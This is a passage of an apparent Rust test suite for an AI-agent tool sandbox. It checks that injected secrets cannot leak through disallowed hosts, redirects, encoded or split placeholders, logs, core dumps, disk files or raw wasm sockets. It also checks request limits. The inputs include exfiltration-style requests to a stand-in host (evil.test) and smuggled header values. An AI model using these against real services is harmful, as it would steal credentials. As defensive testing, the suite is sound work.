            json!({"method": "POST", "url": e, "body": "{{secret:TOKEN}}"}),
            get("https://evil.test/?t={{secret:TOKEN}}"),
        ],
        "invalid-request",
    )?;
    check(lab.w.evil_tls.hits() == 0, || {
        "evil.test received a request".into()
    })?;
    lab.nothing_leaked(&r)
}

fn sec04(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let a = "https://api.allowed.test/echo";
    let r = lab.expect_all(
        res,
        SEC_GRANTS,
        SEC_BINDINGS,
        vec![
            get("https://api.allowed.test/x?k={{secret:SECOND}}"),
            get("https://api.allowed.test/{{secret:SECOND}}"),
            json!({"method": "POST", "url": a, "body": "k={{secret:SECOND}}"}),
            json!({"method": "POST", "url": a, "body": "k=%7b%7bsecret:SECOND%7d%7d"}),
            with_header("GET", a, "X-Other", "{{secret:TOKEN}}"),
            with_header("GET", a, "{{secret:SECOND}}", "x"),
            with_header("GET", a, "X-Key", "%7B%7Bsecret:SECOND%7D%7D"),
            json!({"method": "GET", "url": a, "headers": [["X-A", "{{secret:SEC"], ["X-B", "OND}}"]]}),
            with_header(
                "GET",
                "http://api.allowed.test/echo",
                "X-Key",
                "{{secret:SECOND}}",
            ),
        ],
        "invalid-request",
    )?;
    check(
        lab.w.api_tls.hits() == 0 && lab.w.api_http.hits() == 0,
        || "the allowed server received a request".into(),
    )?;
    lab.nothing_leaked(&r)
}

fn sec05(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let r = lab.relay(
        SEC_GRANTS,
        SEC_BINDINGS,
        vec![
            get("https://api.allowed.test/echo"),
            get("https://api.allowed.test/echo-encoded"),
            with_header(
                "GET",
                "https://api.allowed.test/echo",
                "X-Key",
                "k={{secret:SECOND}}",
            ),
        ],
        0,
    )?;
    let seen = lab.w.api_tls.text();
    check(
        seen.contains(&format!("authorization: Bearer {}", lab.secrets[0])),
        || "the token was not injected (no positive control)".into(),
    )?;
    check(
        seen.contains(&format!("x-key: k={}", lab.secrets[1])),
        || "the placeholder was not substituted (no positive control)".into(),
    )?;
    check(r.answers.len() == 3, || {
        format!("{} answers: {}", r.answers.len(), r.out.report.detail)
    })?;
    for (a, what) in r.answers.iter().zip([
        "echo (raw reflection)",
        "echo-encoded (base64, hex, percent, a header)",
        "the echo of a substituted placeholder",
    ]) {
        let text = a.to_string();
        note(
            res,
            &format!("read the secret back from {what}"),
            if a["status"] != 200 {
                Err(format!("no answer to scrub: {text}"))
            } else {
                lab.no_secret(&text, "the answer").map(|()| {
                    if text.contains("[REDACTED]") {
                        "redacted".to_string()
                    } else {
                        "absent".to_string()
                    }
                })
            },
        );
    }
    check(
        r.out.report.secrets_used.get("TOKEN") == Some(&3)
            && r.out.report.secrets_used.get("SECOND") == Some(&1),
        || {
            format!(
                "secrets_used in the report: {:?}",
                r.out.report.secrets_used
            )
        },
    )?;
    lab.nothing_leaked(&r)
}

fn sec06(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let mut grants = SEC_GRANTS.to_vec();
    grants.push(("https://evil.test", &["GET", "POST"], false));
    lab.evil_granted.set(true);
    let redirect = |to: &str| {
        get(&format!(
            "https://api.allowed.test/redirect?code=307&to={to}"
        ))
    };
    let reqs = vec![
        redirect("https://evil.test/echo"),
        redirect("https://allowed.test/echo"),
        redirect("http://api.allowed.test/echo"),
    ];
    let r = lab.relay(&grants, SEC_BINDINGS, reqs.clone(), 0)?;
    check(lab.w.api_tls.text().contains(&lab.secrets[0]), || {
        "the first hop did not carry the token (no positive control)".into()
    })?;
    let second_hops = [&lab.w.evil_tls, &lab.w.allowed_tls, &lab.w.api_http];
    for ((req, log), a) in reqs.iter().zip(second_hops).zip(r.answers.iter()) {
        let clean = lab.no_secret(&log.text(), "the second hop").is_ok();
        let mut a = a.clone();
        if !clean {
            a["error"] = json!("leaked");
            a["reason"] = json!("the second hop carried the secret");
        }
        record(res, req, &a, clean);
    }
    check(r.answers.len() == 3, || {
        format!("{} answers: {}", r.answers.len(), r.out.report.detail)
    })?;
    // A placeholder on a request that is redirected elsewhere is refused.
    let r2 = lab.expect_all(
        res,
        &grants,
        SEC_BINDINGS,
        vec![with_header(
            "GET",
            "https://api.allowed.test/redirect?code=308&to=https://allowed.test/echo",
            "X-Key",
            "{{secret:SECOND}}",
        )],
        "invalid-request",
    )?;
    for (l, name) in [
        (&lab.w.evil_tls, "evil.test"),
        (&lab.w.allowed_tls, "allowed.test"),
        (&lab.w.api_http, "http://api.allowed.test"),
    ] {
        lab.no_secret(&l.text(), &format!("{name}'s log"))?;
    }
    lab.nothing_leaked(&r)?;
    lab.nothing_leaked(&r2)
}

fn sec10(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    // Secret-bearing requests that succeed, time out and are refused; every
    // stream the supervisor produced is searched (the parent searches the lab
    // process's own stdout and stderr too).
    let r = lab.relay(
        SEC_GRANTS,
        SEC_BINDINGS,
        vec![
            get("https://api.allowed.test/echo"),
            json!({"method": "GET", "url": "https://api.allowed.test/slow", "timeout_ms": 200}),
            with_header(
                "GET",
                "https://api.allowed.test/echo",
                "X-Key",
                "{{secret:SECOND}}\r\n",
            ),
            with_header(
                "GET",
                "https://api.allowed.test/echo",
                "X-Key",
                "{{secret:NOPE}}",
            ),
        ],
        0,
    )?;
    check(lab.w.api_tls.text().contains(&lab.secrets[0]), || {
        "the token was not injected (no positive control)".into()
    })?;
    // Telemetry must not claim a use that did not happen: a secret-bearing
    // request refused at the address check (the bound name resolves to the
    // metadata address) is no `secret_use`, and the report counts none.
    let mut grants = SEC_GRANTS.to_vec();
    grants.push(("https://rebind.allowed.test", &["GET"], false));
    let bound_there = "[[tools.probe.secrets]]\nname = \"TOKEN\"\nallow = [\"https://rebind.allowed.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {}\"\nrationale = \"breakout lab\"\n";
    let r2 = lab.relay(
        &grants,
        bound_there,
        vec![get("https://rebind.allowed.test/")],
        0,
    )?;
    let uses = r2
        .audit
        .iter()
        .filter(|e| e["event"] == "secret_use")
        .count();
    note(
        res,
        "a secret use recorded for a request that was never sent (address check)",
        if r2.answers.first().is_some_and(|a| a["error"] == "denied")
            && uses == 0
            && r2.out.report.secrets_used.is_empty()
        {
            Ok("denied; no secret_use, none counted".into())
        } else {
            Err(format!(
                "{uses} secret_use event(s), report {:?}, answer {:?}",
                r2.out.report.secrets_used,
                r2.answers.first()
            ))
        },
    );
    for (what, text) in [
        (
            "the tool's stdout and stderr",
            format!(
                "{}{}",
                String::from_utf8_lossy(&r.out.stdout),
                String::from_utf8_lossy(&r.out.stderr)
            ),
        ),
        (
            "the run report",
            serde_json::to_string(&r.out.report).unwrap_or_default(),
        ),
        (
            "the audit log",
            serde_json::to_string(&r.audit).unwrap_or_default(),
        ),
        (
            "the answers and errors the worker got",
            serde_json::to_string(&r.answers).unwrap_or_default(),
        ),
    ] {
        note(
            res,
            &format!("secret forms in {what}"),
            lab.no_secret(&text, what)
                .map(|()| format!("none in {} bytes", text.len())),
        );
    }
    Ok(())
}

fn sec12(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let a = "https://api.allowed.test/echo";
    let mut grants = SEC_GRANTS.to_vec();
    grants.push(("https://evil.test", &["GET"], false));
    let r = lab.expect_all(
        res,
        &grants,
        SEC_BINDINGS,
        vec![
            with_header("GET", a, "X-Key", "{{secret:NOPE}}"),
            with_header("GET", a, "X-Key", "{{secret:second}}"),
            with_header("GET", a, "X-Key", "{{secret:SECOND }}"),
            with_header("GET", a, "X-Key", "{{secret:SECONDS}}"),
            with_header("GET", a, "X-Key", "{{secret:{{secret:SECOND}}}}"),
            with_header("GET", "https://evil.test/", "X-Key", "{{secret:SECOND}}"),
            with_header("GET", "https://evil.test/", "X-Key", "{{secret:NOPE}}"),
        ],
        "invalid-request",
    )?;
    let reasons: std::collections::BTreeSet<String> = r
        .answers
        .iter()
        .map(|x| x["reason"].as_str().unwrap_or("").to_string())
        .collect();
    note(
        res,
        "tell unknown, near-miss and bound-elsewhere names apart by the error",
        if reasons.len() == 1 {
            Ok("one uniform answer for all seven".into())
        } else {
            Err(format!("distinguishable answers: {reasons:?}"))
        },
    );
    check(
        lab.w.api_tls.hits() == 0 && lab.w.evil_tls.hits() == 0,
        || "a server received a request".into(),
    )?;
    lab.nothing_leaked(&r)
}

fn sec13(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    // The supervisor holding secret values cannot dump core.
    note(
        res,
        "supervisor core dump",
        crate::scan::core_limit("self").map(|l| format!("supervisor RLIMIT_CORE {l}")),
    );
    // The worker, during a secret-bearing request, cannot dump core either.
    let api = lab.w.api_tls.clone();
    let watch = std::thread::spawn(move || -> Result<String, String> {
        wait_hits(&api, 1)?;
        crate::scan::worker_core_settings()
    });
    let r = lab.relay(
        SEC_GRANTS,
        SEC_BINDINGS,
        vec![json!({"method": "GET", "url": "https://api.allowed.test/slow", "timeout_ms": 8000})],
        0,
    )?;
    note(
        res,
        "worker core dump while the request is in flight",
        watch
            .join()
            .map_err(|_| "the watcher panicked".to_string())?,
    );
    check(lab.w.api_tls.text().contains(&lab.secrets[0]), || {
        "the request did not carry the token (no positive control)".into()
    })?;
    // Nothing the runs left on disk (cache, manifests, the lab's directory).
    let mut stack = vec![lab.dir.path().to_path_buf()];
    let mut files = 0;
    let mut found = Vec::new();
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).map_err(|e| e.to_string())?.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                files += 1;
                let bytes = std::fs::read(&p).unwrap_or_default();
                if let Err(e) =
                    lab.no_secret(&String::from_utf8_lossy(&bytes), &p.display().to_string())
                {
                    found.push(e);
                }
            }
        }
    }
    note(
        res,
        "secret on disk after the run (compile cache, state)",
        if found.is_empty() {
            Ok(format!("none in {files} file(s)"))
        } else {
            Err(found.join("; "))
        },
    );
    lab.nothing_leaked(&r)
}

// ------------------------------------------------------------------- CAP

/// CAP-01/CAP-03: a wasm component on the production worker goes around the
/// HTTP host function with wasi:sockets (TCP connect to 203.0.113.10:9, UDP
/// bind): the socket layer must refuse, and the lab's raw listener counts 0.
fn cap_sockets(lab: &Net, res: &mut CaseResult, udp: bool) -> Result<(), String> {
    let component = lab
        .dir
        .path()
        .join(if udp { "cap-udp.wasm" } else { "cap-tcp.wasm" });
    let bytes = wat::parse_str(crate::wasm::sockets_wat(udp)).map_err(|e| e.to_string())?;
    std::fs::write(&component, bytes).map_err(|e| e.to_string())?;
    let text = format!(
        "version = 1\n[tools.probe]\ncomponent = {:?}\nrationale = \"breakout network lab\"\n\
         [[tools.probe.net]]\nallow = \"http://allowed.test\"\nrationale = \"a grant does not open sockets\"\n\
         [tools.probe.limits]\ntimeout = \"10s\"\n",
        component.display().to_string()
    );
    let path = lab.dir.path().join("manifest.toml");
    let manifest = Manifest::parse(&path, &text, lab.dir.path()).map_err(|e| e.to_string())?;
    let tool = manifest.tool(Some("probe"))?.clone();
    let inv = agentbox_host::Invocation {
        input: "{}".into(),
        ..Default::default()
    };
    let out = lab.wasm_sup.run(
        &manifest,
        &tool,
        &inv,
        Arc::new(AuditLog::memory("breakout-cap")),
    );
    std::thread::sleep(Duration::from_millis(100));
    let raw = lab.w.raw.load(std::sync::atomic::Ordering::SeqCst);
    let attempt = if udp {
        "wasi:sockets/udp: bind a datagram socket to send to 203.0.113.10:9"
    } else {
        "wasi:sockets/tcp: connect to 203.0.113.10:9"
    };
    let answer = out.output.as_deref().unwrap_or("");
    let outcome = match answer {
        "\"step:x code:B\"" => Ok(format!(
            "access-denied at {}",
            if udp { "bind" } else { "connect" }
        )),
        "\"step:c code:B\"" => Ok("access-denied at socket creation".into()),
        _ if out.report.outcome == Outcome::Error && out.report.detail.contains("wasi:sockets") => {
            Ok(format!("not linked: {}", out.report.detail))
        }
        _ => Err(format!(
            "{} {}: {answer} {:?}",
            out.report.outcome, out.report.detail, out.tool_error
        )),
    };
    let outcome = outcome.and_then(|h| {
        if raw == 0 {
            Ok(h)
        } else {
            Err(format!("the raw listener counted {raw}"))
        }
    });
    note(res, attempt, outcome);
    Ok(())
}

// ------------------------------------------------------------------- RES

fn res12(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("http://allowed.test", &["GET", "POST"], false)];
    // Request budget: the third request ends the run.
    let r = lab.relay(
        grants,
        "[tools.probe.limits]\nhttp_requests = 2\ntimeout = \"20s\"\n",
        gets(&["http://allowed.test/"; 3]),
        0,
    )?;
    let rep = &r.out.report;
    note(
        res,
        "3 requests against http_requests = 2",
        if rep.outcome == Outcome::Limit
            && rep.limit == Some(Limit::HttpRequests)
            && lab.w.allowed.hits() == 2
        {
            Ok("limit http_requests; 2 reached the server".into())
        } else {
            Err(format!(
                "outcome {} {:?}, {} hits",
                rep.outcome,
                rep.limit,
                lab.w.allowed.hits()
            ))
        },
    );
    // Byte budget: an endless body.
    let r = lab.relay(
        grants,
        "[tools.probe.limits]\nhttp_bytes = \"1MiB\"\ntimeout = \"20s\"\n",
        gets(&["http://allowed.test/endless"]),
        0,
    )?;
    let rep = &r.out.report;
    note(
        res,
        "an endless response body against http_bytes = 1MiB",
        if rep.outcome == Outcome::Limit && rep.limit == Some(Limit::HttpBytes) {
            Ok("limit http_bytes".into())
        } else {
            Err(format!("outcome {} {:?}", rep.outcome, rep.limit))
        },
    );
    // A slow server: the request's own deadline.
    let r = lab.relay(
        grants,
        "",
        vec![json!({"method": "GET", "url": "http://allowed.test/slow", "timeout_ms": 300})],
        0,
    )?;
    let a = r.answers.first().cloned().unwrap_or(Value::Null);
    record(
        res,
        &json!({"method": "GET", "url": "http://allowed.test/slow (5 s server, 300 ms deadline)"}),
        &a,
        a["error"] == "timeout",
    );
    // Thousands of headers and a huge header value.
    let many: Vec<(String, String)> = (0..5000).map(|i| (format!("x-h{i}"), "v".into())).collect();
    lab.expect_all(
        res,
        grants,
        "",
        vec![
            json!({"method": "POST", "url": "http://allowed.test/", "headers": many, "body": "x"}),
            with_header(
                "POST",
                "http://allowed.test/",
                "x-big",
                &"v".repeat(64 << 10),
            ),
        ],
        "invalid-request",
    )?;
    // A request body past the IPC frame limit: the worker is dropped.
    let before = lab.w.allowed.hits();
    let r = lab.relay(
        grants,
        "",
        vec![
            json!({"method": "POST", "url": "http://allowed.test/", "body": "x".repeat(17 << 20)}),
        ],
        0,
    )?;
    note(
        res,
        "a 17 MiB request body (past the IPC frame limit)",
        if r.out.report.outcome == Outcome::SandboxError
            && r.out.report.detail.contains("frame")
            && lab.w.allowed.hits() == before
        {
            Ok(format!(
                "{}: {}",
                r.out.report.outcome,
                r.out.report.detail.chars().take(100).collect::<String>()
            ))
        } else {
            Err(format!(
                "outcome {}, answers {:?}",
                r.out.report.outcome,
                r.answers
                    .iter()
                    .map(|a| a["error"].clone())
                    .collect::<Vec<_>>()
            ))
        },
    );
    Ok(())
}
